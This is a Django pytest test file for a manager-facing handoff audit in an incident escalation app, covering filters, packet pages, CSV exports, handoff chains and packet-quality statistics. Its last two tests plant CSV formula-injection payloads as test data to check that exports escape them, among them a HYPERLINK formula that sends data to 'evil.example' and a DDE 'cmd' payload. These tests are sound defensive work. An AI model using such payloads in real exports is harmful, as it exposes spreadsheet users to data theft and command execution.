"""The handoff audit for managers: the list and its filters, one handoff's packet and
answer, the streamed CSV export and a case's handoff chain."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from escalations.choices import HandoffStatus, Stage
from tests.factories import TeamFactory
from tests.handoffs_support import hand_built_handoff

pytestmark = pytest.mark.django_db

LIST = reverse("escalations:manage-handoffs")
CSV = reverse("escalations:manage-handoffs-csv")


@pytest.fixture
def eng_team(engineer):
    return TeamFactory(name="Payments Eng", slug="payments-eng", members=[engineer])


@pytest.fixture
def audit(make_incident, agent, other_agent, engineer, team, eng_team, now):
    """Six handoffs over three cases, one of each outcome, and two returns to a person
    the case left (by an accepted handoff): one 2 h later (ping-pong), one 27 h later
    (ping-pong only in a 48 h window). A cancelled offer never moved the case."""
    case_a, case_b, case_c = make_incident(), make_incident(), make_incident()
    h = {}
    h["accepted"] = hand_built_handoff(
        case_a,
        from_user=agent,
        from_team=team,
        to_user=other_agent,
        offered_at=now,
        status=HandoffStatus.ACCEPTED,
        answered_after=timedelta(minutes=5),
    )
    h["ping_pong"] = hand_built_handoff(
        case_a,
        from_user=other_agent,
        from_team=team,
        to_user=agent,
        offered_at=now + timedelta(hours=2),
        status=HandoffStatus.ACCEPTED,
        answered_after=timedelta(minutes=45),
    )
    h["rejected"] = hand_built_handoff(
        case_b,
        from_user=agent,
        from_team=team,
        to_user=engineer,
        offered_at=now + timedelta(minutes=1),
        from_stage=Stage.TRIAGE,
        to_stage=Stage.COMMAND,
        status=HandoffStatus.REJECTED,
        answered_after=timedelta(minutes=10),
        rejection_reason="I am off shift in ten minutes",
    )
    h["expired"] = hand_built_handoff(
        case_b,
        from_user=agent,
        from_team=team,
        to_team=eng_team,
        offered_at=now + timedelta(minutes=20),
        expired=True,
    )
    h["cancelled"] = hand_built_handoff(
        case_c,
        from_user=agent,
        to_user=other_agent,
        offered_at=now + timedelta(minutes=3),
        status=HandoffStatus.CANCELLED,
        answered_after=timedelta(minutes=1),
        responded_by=agent,
    )
    h["late_return"] = hand_built_handoff(
        case_a,
        from_user=agent,
        to_user=other_agent,
        offered_at=now + timedelta(hours=30),
        status=HandoffStatus.ACCEPTED,
        answered_after=timedelta(minutes=2),
    )
    return h


def _row_ids(client, params: dict) -> set[int]:
    response = client.get(LIST, params)
    assert response.status_code == 200
    return {h.pk for h in response.context["page"]}


def _ids(audit, *names) -> set[int]:
    return {audit[n].pk for n in names}


def test_the_list_shows_every_handoff_newest_first(client, manager, audit):
    client.force_login(manager)
    response = client.get(LIST)
    rows = list(response.context["page"])
    assert [h.pk for h in rows] == [
        audit[n].pk for n in ("late_return", "ping_pong", "expired", "cancelled", "rejected", "accepted")
    ]
    body = response.content.decode()
    assert "Expired (no answer in time)" in body and "45m 00s" in body


@pytest.mark.parametrize(
    "outcome,expected",
    [
        ("accepted", ("accepted", "ping_pong", "late_return")),
        ("rejected", ("rejected",)),
        ("expired", ("expired",)),
        ("cancelled", ("cancelled",)),
    ],
)
def test_outcome_filter(client, manager, audit, outcome, expected):
    client.force_login(manager)
    assert _row_ids(client, {"outcome": outcome}) == _ids(audit, *expected)


def test_team_filter_matches_the_sending_or_receiving_team(client, manager, audit, team, eng_team):
    client.force_login(manager)
    assert _row_ids(client, {"team": eng_team.pk}) == _ids(audit, "expired")
    assert _row_ids(client, {"team": team.pk}) == _ids(audit, "accepted", "ping_pong", "rejected", "expired")


def test_person_filter_matches_sender_or_receiver(client, manager, audit, engineer, other_agent):
    client.force_login(manager)
    assert _row_ids(client, {"person": engineer.pk}) == _ids(audit, "rejected")
    assert _row_ids(client, {"person": other_agent.pk}) == _ids(
        audit, "accepted", "ping_pong", "cancelled", "late_return"
    )


def test_stage_filter(client, manager, audit):
    client.force_login(manager)
    assert _row_ids(client, {"stage": Stage.COMMAND}) == _ids(audit, "rejected")


def test_accept_time_filter(client, manager, audit):
    client.force_login(manager)
    assert _row_ids(client, {"accept_over": 30}) == _ids(audit, "ping_pong")
    assert _row_ids(client, {"accept_over": 3}) == _ids(audit, "accepted", "ping_pong")


def test_ping_pong_is_a_return_within_the_window(client, manager, audit):
    client.force_login(manager)
    assert _row_ids(client, {"ping_pong": "on"}) == _ids(audit, "ping_pong")
    assert _row_ids(client, {"ping_pong": "on", "window": 48}) == _ids(audit, "ping_pong", "late_return")
    assert _row_ids(client, {"ping_pong": "on", "window": 1}) == set()


def test_filters_combine(client, manager, audit, agent):
    client.force_login(manager)
    assert _row_ids(client, {"person": agent.pk, "outcome": "accepted", "ping_pong": "on"}) == _ids(audit, "ping_pong")


def test_an_invalid_filter_is_shown_and_left_out(client, manager, audit):
    client.force_login(manager)
    response = client.get(LIST, {"accept_over": "-5", "outcome": "rejected"})
    assert {h.pk for h in response.context["page"]} == _ids(audit, "rejected")
    assert "field-error" in response.content.decode()


def test_the_packet_page_shows_the_packet_as_offered_and_the_answer(client, manager, audit):
    client.force_login(manager)
    body = client.get(reverse("escalations:manage-handoff", args=[audit["rejected"].pk])).content.decode()
    for text in (
        "Checkout fails for EU cards",
        "EU customers cannot pay",
        "Roll back the payment gateway change",
        "Payments succeed for an hour",
        "Confirm the customer impact",
        "☑",
        "☐",
        "Rejected",
        "I am off shift in ten minutes",
        "Answered by",
        "10m 00s",
    ):
        assert text in body, text
    body = client.get(reverse("escalations:manage-handoff", args=[audit["expired"].pk])).content.decode()
    assert "Expired (no answer in time)" in body and "Acceptance time box breached" in body
    body = client.get(reverse("escalations:manage-handoff", args=[audit["cancelled"].pk])).content.decode()
    assert "Cancelled by" in body


def _csv(response) -> list[list[str]]:
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_csv_streams_a_header_and_one_row_per_handoff(client, manager, audit):
    client.force_login(manager)
    rows = _csv(client.get(CSV))
    assert rows[0][:3] == ["Handoff", "Case", "Offered at (UTC)"]
    assert sorted(int(r[0]) for r in rows[1:]) == sorted(h.pk for h in audit.values())
    by_id = {int(r[0]): r for r in rows[1:]}
    assert by_id[audit["rejected"].pk][9] == "Rejected"
    assert by_id[audit["rejected"].pk][14] == "I am off shift in ten minutes"
    assert by_id[audit["ping_pong"].pk][12:14] == ["45.0", "yes"]


def test_the_csv_takes_the_list_filters(client, manager, audit):
    client.force_login(manager)
    rows = _csv(client.get(CSV, {"outcome": "cancelled"}))
    assert [int(r[0]) for r in rows[1:]] == [audit["cancelled"].pk]


def test_the_case_chain_shows_who_held_each_stage_and_how_it_ended(client, manager, audit, agent, other_agent):
    client.force_login(manager)
    case = audit["ping_pong"].incident
    response = client.get(reverse("escalations:manage-case-handoffs", args=[case.pk]))
    holds = response.context["holds"]
    assert [h.holder for h in holds] == [agent, other_agent, agent, other_agent]
    assert [len(h.offers) for h in holds] == [1, 1, 1, 0]
    assert holds[1].duration(None) == timedelta(hours=2, minutes=40)
    body = response.content.decode()
    assert "2h 40m" in body and "Accepted" in body and "ping-pong" in body


def test_the_case_page_links_the_chain_for_managers_only(client, manager, agent, audit):
    case = audit["accepted"].incident
    chain = reverse("escalations:manage-case-handoffs", args=[case.pk])
    client.force_login(manager)
    assert chain in client.get(reverse("escalations:case-detail", args=[case.pk])).content.decode()
    client.force_login(agent)
    assert chain not in client.get(reverse("escalations:case-detail", args=[case.pk])).content.decode()


def _many(make_incident, agent, other_agent, now, count: int) -> None:
    for i in range(count):
        case = make_incident()
        hand_built_handoff(
            case,
            from_user=agent,
            to_user=other_agent,
            offered_at=now + timedelta(minutes=i),
            status=HandoffStatus.ACCEPTED,
            answered_after=timedelta(minutes=2),
        )


@pytest.mark.parametrize("url", [LIST, CSV])
def test_query_count_does_not_grow_with_the_rows(
    client, manager, make_incident, agent, other_agent, now, url, django_assert_max_num_queries
):
    client.force_login(manager)

    def fetch():
        response = client.get(url)
        if response.streaming:
            b"".join(response.streaming_content)
        else:
            response.content  # noqa: B018

    _many(make_incident, agent, other_agent, now, 3)
    with CaptureQueriesContext(connection) as few:
        fetch()
    _many(make_incident, agent, other_agent, now + timedelta(days=1), 27)
    with django_assert_max_num_queries(len(few)):
        fetch()


def test_the_packet_page_judges_ping_pong_in_the_window_asked_for(client, manager, audit):
    client.force_login(manager)
    url = reverse("escalations:manage-handoff", args=[audit["late_return"].pk])
    assert "⇄ yes" not in client.get(url).content.decode()
    assert "⇄ yes" in client.get(url, {"window": 48}).content.decode()


def test_the_chain_page_query_count_does_not_grow_with_the_handoffs(
    client, manager, make_incident, agent, other_agent, now, django_assert_max_num_queries
):
    client.force_login(manager)
    case = make_incident()
    url = reverse("escalations:manage-case-handoffs", args=[case.pk])

    def bounce(start, count):
        for i in range(count):
            sender, receiver = (agent, other_agent) if i % 2 == 0 else (other_agent, agent)
            hand_built_handoff(
                case,
                from_user=sender,
                to_user=receiver,
                offered_at=start + timedelta(hours=i),
                status=HandoffStatus.ACCEPTED,
                answered_after=timedelta(minutes=2),
            )

    bounce(now, 3)
    with CaptureQueriesContext(connection) as few:
        assert client.get(url).status_code == 200
    bounce(now + timedelta(days=1), 27)
    with django_assert_max_num_queries(len(few)):
        response = client.get(url)
    assert len(response.context["holds"]) == 31


def test_handoffs_made_through_the_services_read_the_same_in_the_audit(
    client, manager, make_incident, agent, other_agent, team, now
):
    """Offer, accept, reject and a return through the workspace's own services: the audit
    shows each outcome, the time to accept, and the return as ping-pong, just as the offer
    judged it (one rule, ``selectors.handoffs.ping_pong_sources``)."""
    from escalations.services import handoff_accept, handoff_offer, handoff_reject, incident_acknowledge

    packet = {"summary": "Checkout 500s for EU", "customer_impact": "No orders", "next_steps": "Roll back 4.2"}
    case = incident_acknowledge(incident=make_incident(team=team), actor=agent, now=now)

    def offer(actor, at, **kwargs):
        return handoff_offer(incident=case.pk, actor=actor, now=at, to_stage=case.stage, **packet, **kwargs)

    out = offer(agent, now + timedelta(minutes=1), to_user=other_agent)
    handoff_accept(handoff=out, actor=other_agent, now=now + timedelta(minutes=4))
    refused = offer(other_agent, now + timedelta(minutes=10), to_user=manager)
    handoff_reject(handoff=refused, actor=manager, now=now + timedelta(minutes=12), reason="Not my queue")
    back = offer(other_agent, now + timedelta(minutes=20), to_user=agent, ping_pong_reason="Needs billing access")
    handoff_accept(handoff=back, actor=agent, now=now + timedelta(minutes=21))

    client.force_login(manager)
    rows = {h.pk: h for h in client.get(LIST).context["page"]}
    assert {pk: (rows[pk].outcome, rows[pk].ping_pong) for pk in rows} == {
        out.pk: ("accepted", False),
        refused.pk: ("rejected", False),
        back.pk: ("accepted", True),
    }
    assert rows[out.pk].time_to_accept == timedelta(minutes=3)
    back.refresh_from_db()
    assert back.is_ping_pong  # the offer's stored judgement agrees with the audit's
    assert _row_ids(client, {"ping_pong": "on"}) == {back.pk}


QUALITY = reverse("escalations:manage-handoff-quality")
FULL_PACKET = {
    "actions_taken": "Restarted the gateway",
    "hypothesis": "A bad deploy of 4.2",
    "open_questions": "Are US cards affected?",
    "links": "https://status.example.com/1",
}


def test_packet_quality_by_team_and_person(client, manager, audit, make_incident, agent, team, eng_team, engineer, now):
    """The audit's six packets all miss playbook fields; two complete ones from the agent
    (one rejected for the same reason as an earlier one, spelt differently) change the shares."""
    case = make_incident()
    hand_built_handoff(case, from_user=agent, from_team=team, to_user=engineer, offered_at=now, **FULL_PACKET)
    hand_built_handoff(
        case,
        from_user=agent,
        from_team=team,
        to_user=engineer,
        offered_at=now + timedelta(minutes=30),
        status=HandoffStatus.REJECTED,
        answered_after=timedelta(minutes=2),
        rejection_reason="  I am OFF shift in ten minutes ",
        **FULL_PACKET,
    )
    client.force_login(manager)
    response = client.get(QUALITY, {"period": "all"})
    q = response.context["quality"]
    assert (q.overall.offered, q.overall.complete, q.overall.rejected, q.overall.breached) == (8, 2, 2, 1)
    teams = {r.name: (r.offered, r.complete, r.rejected, r.breached, r.complete_pct) for r in q.teams}
    assert teams == {"Support EMEA": (6, 2, 2, 1, 33.3), "No team": (2, 0, 0, 0, 0.0)}
    assert [r.name for r in q.teams] == ["No team", "Support EMEA"]  # the worst first
    people = {r.key: (r.offered, r.complete) for r in q.people}
    assert people == {agent.pk: (7, 2), audit["ping_pong"].from_user_id: (1, 0)}
    assert q.reasons == [("i am off shift in ten minutes", 2)]
    body = response.content.decode()
    assert "33.3" in body
    rows = _csv(client.get(reverse("escalations:manage-handoff-quality-csv"), {"period": "all"}))
    assert rows[0][:3] == ["By", "Team or person", "Packets offered"]
    assert ["Team", "Support EMEA", "6", "2", "33.3", "2", "1"] in rows
    assert ["All", "All", "8", "2", "25.0", "2", "1"] in rows
    assert "i am off shift in ten minutes" in body


def test_packet_quality_period_and_query_count(
    client, manager, make_incident, agent, other_agent, now, django_assert_max_num_queries
):
    client.force_login(manager)
    _many(make_incident, agent, other_agent, timezone_now(), 2)
    with CaptureQueriesContext(connection) as few:
        client.get(QUALITY)
    _many(make_incident, agent, other_agent, timezone_now(), 20)
    with django_assert_max_num_queries(len(few)):
        response = client.get(QUALITY)
    assert response.context["quality"].overall.offered == 22
    old = make_incident()
    hand_built_handoff(old, from_user=agent, to_user=other_agent, offered_at=timezone_now() - timedelta(days=40))
    assert client.get(QUALITY).context["quality"].overall.offered == 22
    assert client.get(QUALITY, {"period": "90"}).context["quality"].overall.offered == 23
    assert client.get(QUALITY, {"period": "bogus"}).status_code == 200


def timezone_now():
    from django.utils import timezone

    return timezone.now()


FORMULAS = ['=HYPERLINK("http://evil.example/steal?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def _no_formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_handoff_csv_neutralises_formulas(client, manager, make_incident, agent, engineer, now):
    """A rejection reason and names written as formulas reach the CSV as text."""
    agent.first_name, agent.last_name = "=cmd|' /C calc'!A0", "@evil"
    agent.save()
    team = TeamFactory(name="+Team", slug="plus-team", members=[agent])
    case = make_incident(team=team)
    for reason in FORMULAS:
        hand_built_handoff(
            case, from_user=agent, from_team=team, to_user=engineer, offered_at=now,
            status=HandoffStatus.REJECTED, answered_after=timedelta(minutes=3), responded_by=engineer,
            rejection_reason=reason,
        )  # fmt: skip
    client.force_login(manager)
    rows = _csv(client.get(CSV))
    assert _no_formula_cells(rows) == []
    reasons = {row[-1] for row in rows[1:]}
    assert reasons == {"'" + reason for reason in FORMULAS}
    assert any(cell.startswith("'=cmd") for row in rows for cell in row)


def test_the_quality_csv_neutralises_formulas(client, manager, make_incident, agent, engineer, now):
    agent.first_name = "-2+3"
    agent.save()
    team = TeamFactory(name="=Team", slug="eq-team", members=[agent])
    case = make_incident(team=team)
    hand_built_handoff(case, from_user=agent, from_team=team, to_user=engineer, offered_at=now)
    client.force_login(manager)
    rows = _csv(client.get(reverse("escalations:manage-handoff-quality-csv"), {"period": "all"}))
    assert _no_formula_cells(rows) == []
    assert ["Team", "'=Team"] == rows[1][:2]
    assert any(row[:2] == ["Person", "'-2+3"] or row[1].startswith("'-2+3") for row in rows)
